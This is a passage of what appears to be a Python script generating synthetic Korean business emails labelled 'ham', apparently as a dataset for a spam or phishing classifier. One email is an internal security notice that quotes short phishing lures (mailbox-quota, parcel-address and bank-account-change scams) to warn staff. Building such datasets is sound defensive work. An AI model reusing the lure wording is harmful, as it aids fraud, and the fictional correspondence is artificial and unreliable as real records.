인쇄 전에 교정쇄 한 번만 확인 부탁드립니다.

납기: 11월 20일(금) 오전 중, 진주 공장 2번 창고 하차
결제: 기존 조건대로 월말 마감 후 익월 10일 현금 결제

수량이나 납기에 문제 있으면 내일까지 회신 주세요.
감사합니다.

류재석 드림
진주식품 구매팀 | 055-759-33XX
''',
  atts=[XLSX('진주식품_발주서_2026-11-2차.xlsx',
             [['발주번호', 'JJ-PO-26110602'], ['품목', '규격', '수량', '단가', '금액'],
              ['수제 육포 150g 지퍼백', '180x250 PET/AL/PE', 20000, 118, 2360000],
              ['선물세트 외박스', '3호 골판지 B골', 3000, 640, 1920000],
              ['아이스팩 500g', '일반형', 5000, 210, 1050000], ['합계', '', '', '', 5330000]])])

M('ham', '구매팀이 신규 협력사에 업체 등록 서류(사업자등록증, 통장사본 등) 제출을 요청 (Thunderbird)',
  frm=TS, to=[('(주)그린오피스 김현태 팀장', 'ht.kim@greenoffice-supply.example')], prov='thunderbird', when=(9, 17, 10, 48),
  subj='[한빛테크] 신규 협력업체 등록 서류 제출 요청드립니다',
  text='''김현태 팀장님, 안녕하세요.
한빛테크 구매팀 윤태식입니다.

사무용품 정기 납품 건으로 내부 품의가 완료되어 협력업체 등록을 진행하려고 합니다.
번거로우시겠지만 아래 서류를 회신으로 보내주시면 등록 처리하겠습니다.

  1) 사업자등록증 사본
  2) 대금 입금용 통장 사본 (법인 명의)
  3) 회사 소개서 또는 제품 카탈로그 (있으시면)
  4) 협력업체 등록 신청서 (첨부 양식 작성 후 날인)

대금 지급 계좌는 등록 이후 변경하실 경우 반드시 공문과 함께 유선으로
먼저 연락 주셔야 합니다. 메일로만 온 계좌 변경 요청은 처리하지 않는 게
저희 회사 원칙이라 미리 말씀드립니다.

감사합니다.

윤태식 대리
(주)한빛테크 구매팀
02-2038-74XX
''',
  atts=[HWP('협력업체_등록신청서_양식.hwpx', ['협력업체 등록 신청서', '상호', '대표자', '사업자등록번호', '담당자 연락처'])])

M('ham', '영업팀장이 전시회 부스 배치도 메일을 팀원에게 전달(FW), 이미지 첨부 (Outlook)',
  frm=('정혜원', 'hyewon.jung@hanbit-tech.example'), to=[SY, DY], prov='outlook', when=(10, 8, 9, 31),
  subj='FW: [KES 2026] 참가업체 부스 배치도 및 반입 일정 안내',
  text='''서연 과장, 도윤 책임

전시회 사무국에서 온 메일 전달합니다.
우리 부스는 C홀 C-214이고 반입은 10/26(월) 13시부터입니다.
데모용 노트북 두 대랑 모니터 반입 목록은 서연 과장이 정리해서 목요일까지 공유해 주세요.

정혜원

-----Original Message-----
From: KES 2026 사무국 <exhibit@kes-office.example>
Sent: Wednesday, October 7, 2026 5:12 PM
To: 정혜원 <hyewon.jung@hanbit-tech.example>
Subject: [KES 2026] 참가업체 부스 배치도 및 반입 일정 안내

참가업체 담당자님께,
2026 한국전자전 참가업체 부스 배치도와 반입·반출 일정을 안내드립니다.
- 반입: 10월 26일(월) 13:00 ~ 21:00
- 전시: 10월 27일(화) ~ 10월 30일(금)
- 반출: 10월 30일(금) 17:00 ~ 22:00
부스 배치도는 첨부 이미지를 참고해 주시기 바랍니다.
''',
  atts=[PNG('KES2026_C홀_배치도.png', png_banner('kes-hall', 300, 180, bg=(240, 240, 240), fg=(40, 90, 160)))])

M('ham', '인사팀의 연말정산 일정 및 제출서류 안내 사내 공지 (그룹웨어, EUC-KR HTML)',
  frm=MJ, to=[('한빛테크 전직원', 'all@hanbit-tech.example')], rcpt='doyoon.kim@hanbit-tech.example',
  prov='groupware', cs='euc-kr', when=(11, 18, 9, 0),
  subj='[인사팀] 2026년 귀속 연말정산 일정 및 제출서류 안내',
  html='''<div style="font-family:'맑은 고딕';font-size:10pt;line-height:1.6;">
<p>임직원 여러분 안녕하세요. 인사팀 최민지입니다.</p>
<p>2026년 귀속 연말정산 일정을 아래와 같이 안내드리오니 기한 내 제출 부탁드립니다.</p>
<table border="1" cellpadding="5" cellspacing="0" style="border-collapse:collapse;font-size:10pt;">
<tr style="background:#eef3f8;"><th>구분</th><th>일정</th><th>비고</th></tr>
<tr><td>간소화 자료 조회</td><td>2027. 1. 15.(금) ~</td><td>홈택스 개통 후</td></tr>
<tr><td>공제신고서 및 증빙 제출</td><td>2027. 1. 25.(월) ~ 1. 29.(금)</td><td>그룹웨어 결재 첨부</td></tr>
<tr><td>정산 결과 확인</td><td>2027. 2. 19.(금)</td><td>2월 급여명세서 반영</td></tr>
</table>
<p><b>※ 올해 달라지는 점</b><br>
- 자녀세액공제 금액 상향, 혼인세액공제(2026년까지 혼인신고분) 적용<br>
- 월세 세액공제 대상 주택 기준 확대</p>
<p>부양가족 변동(출생, 혼인, 분가 등)이 있으신 분은 12월 중 인사팀으로 가족관계증명서를 미리 제출해 주세요.<br>
주민등록번호 등 개인정보가 포함된 서류는 <u>메일로 보내지 마시고</u> 그룹웨어 보안 결재함에만 첨부해 주시기 바랍니다.</p>
<p>문의: 인사팀 최민지 (내선 2214)</p>
</div>
''')

M('ham', '사내 IT보안팀이 택배·메일함 용량 사칭 피싱 메일을 인용하며 주의를 당부하는 공지',
  frm=('IT지원팀', 'itsupport@hanbit-tech.example'), to=[('한빛테크 전직원', 'all@hanbit-tech.example')],
  rcpt='junho.park@hanbit-tech.example', prov='roundcube', when=(10, 29, 8, 50),
  subj='[보안공지] 최근 사내에 유입된 피싱 메일 사례 및 주의사항',
  text='''임직원 여러분, IT지원팀입니다.

이번 주 들어 사내 메일로 아래와 같은 피싱 메일이 여러 건 유입되었습니다.
링크를 누르거나 첨부를 열지 마시고, 받으신 경우 바로 삭제하거나 IT지원팀에 전달해 주세요.

[사례 1] 메일함 용량 초과 사칭
  > 제목: [관리자] 귀하의 메일함 저장공간이 98% 찼습니다
  > "24시간 이내 인증하지 않으면 수신 메일이 반송됩니다. 아래 버튼을 눌러 계정을 확인하세요."
  -> 당사 메일 시스템은 이런 안내를 메일로 보내지 않습니다.

[사례 2] 택배 주소 불일치 사칭
  > "고객님의 택배가 주소 불명으로 보관 중입니다. 주소를 수정하지 않으면 반송됩니다."
  -> 실제 택배사 주소와 다른 도메인으로 연결되며, 로그인 정보와 카드번호를 요구합니다.

[사례 3] 거래처 계좌 변경 요청
  > "당사 주거래 은행 변경으로 이번 달부터 아래 계좌로 송금 부탁드립니다."
  -> 거래처 계좌 변경은 반드시 기존에 알고 있는 전화번호로 담당자에게 확인하세요.

공통 확인 방법
  - 보낸 사람 주소의 도메인 철자를 확인 (예: 한 글자 바뀐 도메인)
  - 로그인 화면이 뜨면 주소창 확인, 의심되면 입력하지 말 것
  - 첨부 파일 확장자가 .html, .htm, .zip, .iso, .lnk 이면 특히 주의

비밀번호를 이미 입력하셨다면 즉시 변경하시고 내선 1100으로 연락 주세요.

IT지원팀 드림
''')

M('ham', '고객사 병원과 프로젝트 킥오프 회의 초대(Teams 링크, ICS 첨부) (Microsoft 365)',
  frm=SY, to=[SM, EY], cc=[DY], prov='m365', cs='UTF-8', when=(11, 12, 15, 20),
  subj='[회의 초대] 서울클리닉 EMR 유지보수 킥오프 미팅 (11/19 목 14:00)',
  text='''배성민 원장님, 조은영 사무장님 안녕하세요.
한빛테크 이서연입니다.

유지보수 계약 체결 후 첫 킥오프 미팅을 아래와 같이 요청드립니다.

일시: 2026년 11월 19일(목) 오후 2시 ~ 3시
장소: 서울클리닉 3층 회의실 (원격 참석: Microsoft Teams)
참석: 서울클리닉 배성민 원장님, 조은영 사무장님 / 한빛테크 이서연, 김도윤

안건
1. 유지보수 범위 및 장애 대응 절차(SLA) 확인
2. 월간 정기점검 일정
3. 백업 정책 및 개인정보 처리 위탁 관련 확인 사항

원격으로 참석하시는 경우 아래 링크를 이용해 주세요.
https://teams.microsoft.com/l/meetup-join/19%3ameeting_NmE3ZTk0OWItMDIxYy00ZGQ2LWI1/0?context=%7b%22Tid%22%3a%22hanbit%22%7d

일정이 어려우시면 편하신 시간 알려주세요.
감사합니다.

이서연 과장 | (주)한빛테크 영업팀
''',
  atts=[att('invite.ics', make_ics('040000008200E00074C5B7101A82E0080000000090F4A1D3C2A4DC01', '서울클리닉 EMR 유지보수 킥오프',
                                   datetime(2026, 11, 19, 14, 0, tzinfo=KST), datetime(2026, 11, 19, 15, 0, tzinfo=KST),
                                   ('이서연', 'seoyeon.lee@hanbit-tech.example'),
                                   [('배성민', 'smbae@seoul-clinic.test'), ('조은영', 'ey.jo@seoul-clinic.test')],
                                   '서울클리닉 3층 회의실 / Microsoft Teams', '유지보수 범위 및 SLA 확인'),
            'text/calendar; method=REQUEST; charset="utf-8"', style='2231')])

M('ham', '디자인 회사 대표가 세무사에게 부가세 신고용 매입 증빙을 ZIP으로 보내는 메일 (naver)',
  frm=('하늘디자인 대표 박소라', 'sora_hanul@naver.com'), to=[OH], prov='naver', when=(1 + 9, 14, 22, 37),
  subj='2기 부가세 예정신고 자료 보내드립니다 (하늘디자인)',
  text='''세무사님 안녕하세요, 하늘디자인 박소라입니다.

말씀하신 7~9월 매입 증빙 자료 정리해서 압축파일로 보내드려요.
카드 사용내역은 홈택스에 등록된 사업용 카드라 따로 안 넣었고,
현금영수증 못 받은 것 몇 건이랑 간이영수증만 스캔해서 넣었습니다.

그리고 9월에 산 노트북(맥북)은 비품으로 처리 가능한지 여쭤보고 싶어요.
개인 용도로도 쓰긴 하는데 거의 업무용이라서요.

늦게 보내드려서 죄송합니다. 확인 부탁드려요!

박소라 드림
''',
  atts=[ZIP('하늘디자인_2026_2기예정_매입증빙.zip',
            [('영수증_스캔/20260712_문구.png', png_photo('rc1', 60, 80)),
             ('영수증_스캔/20260903_택시.png', png_photo('rc2', 60, 80)),
             ('매입내역_정리.xlsx', make_xlsx([['일자', '거래처', '금액'], ['2026-07-12', '알파문구', 48000],
                                              ['2026-09-03', '택시', 23400], ['2026-09-21', '애플스토어', 2890000]]))])])

M('ham', '법무법인이 고객사에 법률 검토 의견서(PDF)를 송부, 변호사-고객 비밀 고지 포함 (Outlook)',
  frm=('법무법인 대한 송지아', 'jia.song@daehan-law.example'), to=[HJ], prov='outlook', when=(9, 24, 17, 55),
  subj='[법무법인 대한] 상표권 침해 경고장 관련 검토 의견서 송부',
  text='''하정훈 대표님께,

법무법인 대한 송지아 변호사입니다.
지난번 문의 주신 "진주 수제육포" 상표 관련 경고장 건에 대한 검토 의견서를 첨부와 같이 송부드립니다.

요지만 말씀드리면,
- 상대방 등록상표(제40-19*****호)와 귀사 표장은 외관·호칭에서 차이가 있어 유사 판단 가능성은 낮다고 봅니다.
- 다만 온라인 판매 페이지의 일부 문구는 오해 소지가 있어 변경을 권고드립니다.
- 경고장에 대한 회신은 2주 이내에 당 법인 명의로 발송하는 것을 제안드립니다.

자세한 내용은 첨부 의견서를 참고해 주시고, 통화 가능하신 시간 알려주시면 설명드리겠습니다.

송지아 변호사
법무법인 대한 | 서울 서초구 서초대로 2**
Tel 02-3477-2231

이 메일과 첨부파일에는 변호사-의뢰인 간 비밀유지 대상 정보가 포함되어 있을 수 있습니다.
수신 대상자가 아니신 경우 즉시 삭제하여 주시기 바랍니다.
''',
  atts=[PDF('검토의견서_진주식품_상표경고장_20260924.pdf',
            ['LEGAL OPINION (Privileged & Confidential)', 'To: Jinju Foods Co., Ltd.', 'Re: Trademark warning letter',
             'Daehan Law Firm', '2026-09-24'], title='Legal Opinion')])

M('ham', '인쇄소가 현수막·리플렛 최종 시안 확인을 요청, PDF 첨부, 가벼운 톤 (naver 일반 메일)',
  frm=('명성인쇄 오대리', 'ms_print2010@naver.com'), to=[HR], prov='naver', when=(11, 2, 13, 18),
  subj='미래에듀 겨울특강 리플렛 최종 시안입니다~',
  text='''원장님 안녕하세요 명성인쇄 오대리입니다~

말씀하신 대로 수정해서 최종 시안 보내드립니다.
1. 전화번호 뒷자리 수정 (…-2207 → …-2270)
2. 수강료 옆 "교재비 별도" 문구 추가
3. QR코드는 학원 블로그 주소로 교체했습니다

확인하시고 이상 없으면 "진행해주세요" 회신만 주시면
내일 오전에 인쇄 들어가서 목요일 오후에 학원으로 배송해 드릴게요.

리플렛 2,000부 / 현수막 1개 (가로 5m)
금액은 지난번 안내드린 대로 부가세 포함 418,000원입니다.

감사합니다^^
''',
  atts=[PDF('미래에듀_겨울특강_리플렛_최종.pdf', ['MIRAE EDU Winter Special Class 2027', 'Leaflet A4 folded - final proof'],
            title='Leaflet proof')])

M('ham', '식품회사 고객센터가 이물질 문의 고객에게 조사 결과와 보상 안내를 회신 (Outlook, 정중한 사과문)',
  frm=('진주식품 고객센터', 'cs@jinju-foods.example'), to=[('장미경', 'mkjang@haneul-mail.test')], prov='outlook',
  reply=True, when=(10, 5, 15, 10),
  subj='RE: 육포 제품에 이물질이 있었습니다',
  text='''장미경 고객님, 안녕하십니까.
진주식품 고객센터 팀장 손경민입니다.

먼저 저희 제품을 드시다가 불편을 겪으신 점 진심으로 사과드립니다.
보내주신 사진과 회수한 제품을 품질관리팀에서 확인한 결과,
이물은 원료육의 힘줄(결합조직)이 건조 과정에서 딱딱하게 굳은 것으로 확인되었습니다.
인체에 유해한 물질은 아니지만, 선별 공정에서 걸러졌어야 하는 부분이라 공정 점검을 진행했습니다.

보상으로 동일 제품 3봉과 소정의 선물을 댁으로 보내드렸으며,
(CJ대한통운 송장번호 5712-****-3306, 10월 7일 도착 예정)
환불을 원하시면 회신 주시면 구매하신 금액 전액 환불해 드리겠습니다.

다시 한번 사과드리며, 더 좋은 제품으로 보답하겠습니다.

진주식품 고객센터 | 080-759-33XX (평일 9시~18시)

-----Original Message-----
From: 장미경 <mkjang@haneul-mail.test>
Sent: Friday, October 2, 2026 8:44 PM
To: cs@jinju-foods.example
Subject: 육포 제품에 이물질이 있었습니다

쿠팡에서 구입한 수제육포 150g 제품에서 딱딱한 이물질이 나왔습니다.
사진 첨부합니다. 아이가 먹다가 발견했는데 확인 부탁드립니다.
''')

M('ham', '노무법인이 신규 입사자 4대보험 취득신고 완료와 보험료 공제 안내 (hiworks)',
  frm=('노무법인 온길 이혜진 노무사', 'hj.lee@ongil-labor.example'), to=[MJ], prov='hiworks', when=(9, 8, 16, 30),
  subj='[온길노무] 9월 입사자 4대보험 취득신고 처리 완료 안내',
  text='''최민지 매니저님, 안녕하세요.
노무법인 온길 이혜진 노무사입니다.

요청하신 9월 입사자 3명에 대한 4대보험 취득신고를 9월 8일자로 완료했습니다.

- 김OO (개발팀, 9/1 입사) : 국민연금·건강보험·고용보험·산재보험 취득 완료
- 이OO (영업팀, 9/1 입사) : 동일
- 박OO (디자인, 9/7 입사, 단시간 근로자) : 고용·산재만 취득, 국민연금은 월 60시간 미만으로 제외

9월분 보험료는 10월 급여에서 공제하시면 됩니다.
취득신고 접수증은 4대 사회보험 정보연계센터에서 조회 가능하며, 필요하시면 PDF로 보내드리겠습니다.

감사합니다.
이혜진 드림
''')

M('ham', '의료기기 판매업체가 병원에 초음파 장비 견적과 리스 조건을 안내, PDF 첨부 (EUC-KR, QP)',
  frm=('메디라인 김재욱 과장', 'jw.kim@mediline-korea.example'), to=[SM], cc=[EY], prov='outlook', cs='euc-kr',
  cte='quoted-printable', when=(10, 13, 11, 40),
  subj='[메디라인] 초음파 진단기 교체 견적 및 리스 조건 안내',
  text='''배성민 원장님 안녕하십니까.
메디라인 김재욱 과장입니다.

지난주 방문 시 말씀 나눈 복부·갑상선 초음파 진단기 교체 건 견적서 보내드립니다.

1. 장비 일시 구매: 48,500,000원 (VAT 별도, 프로브 3종 포함)
2. 리스(36개월): 월 1,520,000원 (VAT 별도, 잔존가치 10%)
3. 기존 장비 보상 판매: 3,000,000원 차감 가능

설치 후 2년 무상 A/S, 연 2회 정기 점검이 포함되어 있습니다.
리스 진행 시 캐피탈사 심사 서류(사업자등록증, 최근 2년 재무제표 또는 소득금액증명)가 필요합니다.

이번 달 안에 결정해 주시면 프로모션으로 프린터(흑백 비디오 프린터) 1대를 추가로 드릴 수 있습니다.
편하신 시간에 연락 주십시오.

김재욱 과장 드림
메디라인 | 010-9245-61XX
''',
  atts=[PDF('메디라인_견적서_서울클리닉_초음파.pdf', ['MEDILINE KOREA  Quotation', 'Ultrasound system replacement',
                                                     'Purchase KRW 48,500,000 (VAT excl.)', 'Lease 36M KRW 1,520,000/month'])])

M('ham', '학원 원장이 강사 지원자에게 면접 일정과 시범강의 안내 (daum)',
  frm=HR, to=[('류현우', 'hwryu@haneul-mail.test')], prov='daum', cs='euc-kr', when=(11, 9, 19, 22),
  subj='[미래에듀] 중등 수학 강사 면접 일정 안내드립니다',
  text='''류현우 선생님, 안녕하세요.
미래에듀 원장 신혜린입니다.

중등 수학 강사 채용에 지원해 주셔서 감사합니다.
서류 검토 후 면접을 진행하고자 연락드립니다.

- 일시: 11월 13일(금) 오후 3시
- 장소: 미래에듀 2층 원장실 (OO역 3번 출구 도보 5분)
- 내용: 면접 20분 + 시범강의 15분
- 시범강의 범위: 중2 일차함수 그래프 (대상: 중2 중위권 가정)

판서 위주로 하셔도 되고, 필요하시면 노트북 연결 가능한 TV가 있습니다.
주차는 건물 뒤편 공영주차장을 이용해 주세요.

일정이 어려우시면 회신 부탁드립니다.

미래에듀 신혜린 드림
''')

M('ham', '베트남 협력사 한국인 담당자가 샘플 통관 지연과 일정 변경을 알리는 메일 (gmail, 한영 혼용)',
  frm=('Nguyen Minh / 민', 'minh.ssvina@gmail.com'), to=[HJ], cc=[('류재석', 'purchase@jinju-foods.example')],
  prov='gmail', when=(9, 29, 19, 5),
  subj='Re: 건망고 샘플 발송 건 (SS VINA)',
  reply='jinju-foods.example',
  text='''하정훈 대표님 안녕하세요,
SS VINA 민입니다.

지난주 보내드린 건망고 샘플이 인천세관에서 식품검역 때문에 조금 지연되고 있다고 합니다.
DHL tracking 보니까 "Clearance delay - held by regulatory agency" 로 나옵니다.
검역 서류(Health certificate, Certificate of Origin)는 저희가 이미 DHL 쪽에 보냈습니다.

원래 10/1 도착 예정이었는데 아마 10/6~7 정도 될 것 같아요.
본계약 일정은 샘플 확인하시고 그 다음 주에 다시 조율하면 될까요?

Thank you and best regards,
Minh (민)
SS VINA Co., Ltd. | Ho Chi Minh City
+84 90 *** 4471

On Fri, Sep 25, 2026 at 4:12 PM 하정훈 <ceo@jinju-foods.example> wrote:
> 민 과장님, 샘플 발송되면 송장번호 알려주세요.
> 도착하면 바로 품평회 진행하겠습니다.
''')

M('ham', '상가 건물 관리단이 입주사에 11월 관리비·임대료 청구와 납부 계좌를 안내 (EUC-KR HTML, 8bit)',
  frm=('마포스퀘어 관리단', 'office@maposquare-bldg.example'), to=[('하늘디자인', 'admin@hanul-design.test')],
  prov='inhouse', cs='euc-kr', cte='8bit', mailer=None, dkim=False, when=(11, 20, 10, 5),
  subj='[마포스퀘어] 2026년 11월분 임대료 및 관리비 청구서',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<p style="font-size:13px;">하늘디자인 귀하</p>
<p style="font-size:13px;">2026년 11월분 임대료 및 관리비를 아래와 같이 청구합니다.</p>
<table border="1" cellspacing="0" cellpadding="4" style="font-size:12px;border-collapse:collapse;">
<tr bgcolor="#dddddd"><td>항목</td><td>금액(원)</td></tr>
<tr><td>임대료 (302호)</td><td align="right">2,200,000</td></tr>
<tr><td>일반관리비</td><td align="right">318,400</td></tr>
<tr><td>전기료 (10월 사용분)</td><td align="right">142,730</td></tr>
<tr><td>수도료</td><td align="right">21,600</td></tr>
<tr><td>주차료 (2대)</td><td align="right">100,000</td></tr>
<tr><td>부가세</td><td align="right">278,273</td></tr>
<tr bgcolor="#f5f5f5"><td><b>합계</b></td><td align="right"><b>3,061,003</b></td></tr>
</table>
<p style="font-size:12px;">납부기한 : 2026년 11월 30일<br>
납부계좌 : 기존 가상계좌(입주사별 고유번호)와 동일<br>
연체 시 관리규약 제21조에 따라 연체료가 부과됩니다.</p>
<p style="font-size:12px;">12월 3일(목) 09시~12시 건물 전체 소방설비 점검이 있으니 참고 바랍니다.</p>
<p style="font-size:12px;">마포스퀘어 관리단 / 02-333-90XX</p>
</body></html>
''')

M('ham', '프리랜서 디자이너가 작업비 지급일과 원천징수 처리를 확인 요청 (gmail, 캐주얼)',
  frm=('윤채원', 'chaewon.illust@gmail.com'), to=[JY], prov='gmail', when=(11, 24, 11, 3),
  subj='캘린더 일러스트 작업비 정산 관련 문의드려요',
  text='''실장님 안녕하세요! 윤채원입니다.

캘린더 일러스트 12컷 최종본 납품한 지 2주 정도 돼서 정산 관련해서 여쭤봐요.
계약서상으로는 납품 후 익월 10일 지급이라 12월 10일로 알고 있는데 맞을까요?

그리고 사업소득 3.3% 원천징수하고 지급하시는 거죠?
작업비 1,800,000원에서 59,400원 떼고 1,740,600원 입금되는 걸로 이해했습니다.
입금 계좌는 계약서 쓸 때 드렸던 카카오뱅크 계좌 그대로예요.

혹시 추가로 필요한 서류(신분증 사본 등) 있으면 말씀해 주세요.
다음에도 좋은 작업으로 뵐 수 있으면 좋겠어요 :)

채원 드림
''')

M('ham', '팀장이 팀원들에게 연말 회식 장소 공지와 회비(1인 3만원) 입금 계좌를 알리는 메일',
  frm=('정혜원', 'hyewon.jung@hanbit-tech.example'), to=[SY, DY, ('조민혁', 'minhyuk.jo@hanbit-tech.example'), ('백아름', 'areum.baek@hanbit-tech.example')],
  prov='outlook', when=(12 - 1, 26, 17, 48),
  subj='영업팀 송년회 안내 (12/11 금) + 회비 안내',
  text='''영업팀 여러분,

올해 다들 정말 고생 많으셨습니다.
송년회 일정 확정되어 공유드립니다.

날짜: 12월 11일(금) 저녁 6시 30분
장소: 을지로 "한우마당" 2층 룸 (회사에서 도보 10분)
회사 지원: 1인 5만원 (팀 운영비)
개인 회비: 1인 3만원 (2차 및 선물 교환용)

회비는 12월 4일까지 막내 아름 씨 계좌로 보내주세요.
  카카오뱅크 3333-**-******* 백아름
선물 교환은 2만원 내외로 준비해 주시고요. 이번엔 포장 꼭 해 오기!

불참하시는 분은 수요일까지 말씀 주세요.

정혜원 드림
''')

M('ham', 'PR 대행사가 보도자료 초안(HWPX) 검토와 배포 일정 확인을 요청 (m365)',
  frm=('피알브릿지 한수민', 'sumin.han@prbridge.example'), to=[SY], prov='m365', when=(10, 16, 10, 20),
  subj='[보도자료 검토 요청] 한빛테크, 병원용 AI 예약 솔루션 출시',
  text='''이서연 과장님 안녕하세요.
피알브릿지 한수민입니다.

다음 주 배포 예정인 보도자료 초안 첨부드립니다.
대표님 인용문은 지난 인터뷰 내용을 바탕으로 작성했는데, 표현 확인 부탁드립니다.

- 엠바고: 10월 21일(수) 오전 6시
- 배포 대상: IT 전문지 18곳, 경제지 6곳, 의료 전문지 4곳
- 사진: 제품 화면 캡처 2컷 + 대표님 프로필 1컷 (고해상도 원본 요청드립니다)

수정 사항은 금요일 오후 3시까지 회신 주시면 반영하겠습니다.

감사합니다.
한수민 드림
''',
  atts=[HWP('보도자료_한빛테크_AI예약솔루션_초안_1016.hwpx',
            ['[보도자료] 한빛테크, 병원용 AI 예약 솔루션 출시', '엠바고 2026. 10. 21.(수) 06:00',
             '(주)한빛테크는 중소 병·의원을 위한 AI 기반 예약 관리 솔루션을 출시했다고 21일 밝혔다.'])])

M('ham', '조달청 나라장터의 관심 입찰공고 알림 메일 (g2b.go.kr, EUC-KR)',
  frm=('나라장터', 'g2b_noreply@g2b.go.kr'), to=[SY], prov='inhouse', cs='euc-kr', dkim=False,
  mailer=None, when=(11, 17, 7, 0),
  subj='[나라장터] 관심 공고 알림 - 정보시스템 유지관리 용역 (3건)',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head>
<body style="font-family:굴림,Gulim;font-size:12px;">
<table width="680" border="0" cellpadding="0" cellspacing="0">
<tr><td style="border-bottom:2px solid #1d4e9e;padding:8px 0;font-size:15px;font-weight:bold;color:#1d4e9e;">관심 공고 알림 서비스</td></tr>
<tr><td style="padding:12px 0;">이서연 님이 등록하신 관심 키워드(<b>유지관리, EMR, 병원정보시스템</b>)에 해당하는 신규 공고입니다.</td></tr>
<tr><td>
<table width="100%" border="1" cellpadding="4" cellspacing="0" style="border-collapse:collapse;font-size:12px;">
<tr bgcolor="#eef2f9"><th>공고번호</th><th>공고명</th><th>수요기관</th><th>입찰마감</th></tr>
<tr><td>R26BK0134****</td><td>2027년 보건소 통합정보시스템 유지관리 용역</td><td>경기도 OO시</td><td>2026/11/27 10:00</td></tr>
<tr><td>R26BK0134****</td><td>공공의료원 EMR 고도화 및 유지보수</td><td>지방의료원</td><td>2026/11/30 14:00</td></tr>
<tr><td>R26BK0135****</td><td>보건의료 데이터 플랫폼 운영 유지관리</td><td>공공기관</td><td>2026/12/02 10:00</td></tr>
</table></td></tr>
<tr><td style="padding:12px 0;">상세 내용은 나라장터(www.g2b.go.kr)에 로그인하여 확인하시기 바랍니다.<br>
알림 설정 변경은 [나의 나라장터 &gt; 관심공고 설정]에서 하실 수 있습니다.</td></tr>
<tr><td style="color:#888;font-size:11px;">본 메일은 발신전용 메일입니다. 조달청 고객지원센터 1588-0800</td></tr>
</table></body></html>
''')

M('ham', '작은 카페 사장이 원두 납품 견적 문의에 대해 아이폰으로 짧게 답장 (iPhone, naver)',
  frm=('카페온기 정다운', 'ongi_cafe@naver.com'), to=[('로스터리 빈스토리', 'order@beanstory-roast.example')],
  prov='iphone', reply='beanstory-roast.example', when=(10, 1, 21, 14),
  subj='Re: 원두 정기납품 견적 문의 답변드립니다',
  text='''네 확인했습니다.
브라질 세하도 1kg 월 12봉, 에티오피아 1kg 월 4봉으로 시작해볼게요.
첫 납품은 다음주 화요일 가능할까요?
결제는 말씀하신대로 월말 계좌이체로 하겠습니다.

iPhone에서 보냄

> 2026. 10. 1. 오후 5:02, 빈스토리 <order@beanstory-roast.example> 작성:
>
> 안녕하세요 사장님, 빈스토리 로스터리입니다.
> 문의주신 정기납품 단가 안내드립니다.
> 브라질 세하도 1kg 23,000원 / 에티오피아 예가체프 1kg 31,000원 (배송비 무료)
''')

M('ham', '재무팀이 출장비 정산서 양식(XLSX) 제출 기한을 안내하며 누락자에게 재요청',
  frm=JH, to=[DY, ('조민혁', 'minhyuk.jo@hanbit-tech.example')], prov='outlook', when=(10, 30, 14, 15),
  subj='[재무팀] 10월 출장비 정산서 미제출 안내 (11/3까지)',
  text='''김도윤 책임님, 조민혁 선임님 안녕하세요.
재무팀 박준호입니다.

10월 부산 출장(10/14~10/16) 건 출장비 정산서가 아직 제출되지 않아 연락드립니다.
이번 달 마감이 11월 3일(화)이라 그 전에 제출해 주셔야 11월 급여와 함께 지급됩니다.

- 양식: 첨부 파일 사용 (법인카드 사용분은 제외하고 개인 결제분만 기재)
- 증빙: 영수증 원본 또는 카드 전표 사진
- KTX 승차권은 코레일 앱에서 "영수증 출력" 화면 캡처로 대체 가능합니다

궁금하신 점은 내선 2301로 연락 주세요.

박준호 드림
''',
  atts=[XLSX('출장비_정산서_양식_2026.xlsx', [['출장비 정산서'], ['성명', '', '부서', ''],
                                           ['일자', '항목', '내용', '금액', '결제수단'],
                                           ['', '교통비', '', '', ''], ['', '숙박비', '', '', ''], ['', '식비', '', '', '']])])

M('ham', '도메인 등록업체(가비아)의 도메인 만료 예정 및 자동연장 안내 (실제 서비스의 정상 고지)',
  frm=('가비아', 'noreply@gabia.com'), to=[('하늘디자인 관리자', 'admin@hanul-design.test')], prov='inhouse', cs='UTF-8',
  cte='quoted-printable', mailer=None, selector='gabia', when=(11, 13, 10, 30),
  subj='[가비아] 도메인 만료 30일 전 안내 (hanul-design.test)',
  html='''<!DOCTYPE html><html lang="ko"><head><meta charset="{CHARSET}"><title>도메인 만료 안내</title></head>
<body style="margin:0;background:#f5f6f8;">
<div style="max-width:600px;margin:0 auto;background:#fff;padding:32px;font-family:'Apple SD Gothic Neo','맑은 고딕',sans-serif;color:#222;">
<h2 style="font-size:20px;margin:0 0 16px;">도메인 만료 예정 안내</h2>
<p>안녕하세요, 하늘디자인 고객님.<br>고객님이 보유하신 도메인의 만료일이 30일 남았습니다.</p>
<table style="width:100%;border-collapse:collapse;font-size:14px;margin:16px 0;">
<tr><td style="padding:8px;border-bottom:1px solid #eee;color:#666;">도메인</td><td style="padding:8px;border-bottom:1px solid #eee;">hanul-design.test</td></tr>
<tr><td style="padding:8px;border-bottom:1px solid #eee;color:#666;">만료일</td><td style="padding:8px;border-bottom:1px solid #eee;">2026-12-13</td></tr>
<tr><td style="padding:8px;border-bottom:1px solid #eee;color:#666;">자동연장</td><td style="padding:8px;border-bottom:1px solid #eee;">신청됨 (등록 카드로 만료 7일 전 결제)</td></tr>
</table>
<p>자동연장이 신청되어 있어 별도 조치는 필요하지 않습니다. 결제 카드를 변경하시려면 가비아 홈페이지 로그인 후 [My가비아 &gt; 결제 관리]에서 변경해 주세요.</p>
<p style="font-size:12px;color:#888;">가비아는 이메일로 카드번호나 비밀번호를 요청하지 않습니다. 의심되는 메일은 고객센터(1544-4370)로 문의해 주세요.</p>
<p style="font-size:12px;color:#888;">본 메일은 정보통신망법에 따라 서비스 이용 관련 필수 안내로 발송되었습니다.</p>
</div></body></html>
''')

M('ham', '클라우드 서비스 이용요금 청구 안내 (네이버클라우드, 실제 도메인, SES 스타일 발송)',
  frm=('NAVER Cloud', 'noreply@ncloud.com'), to=[JH], prov='ses', when=(11, 3, 9, 15),
  subj='[네이버클라우드플랫폼] 2026년 10월 이용요금 청구 안내',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:'Nanum Gothic',sans-serif;">
<div style="width:640px;margin:0 auto;border:1px solid #e3e3e3;">
<div style="background:#03c75a;padding:16px 24px;color:#fff;font-size:18px;font-weight:bold;">NAVER Cloud Platform</div>
<div style="padding:24px;font-size:14px;line-height:1.7;">
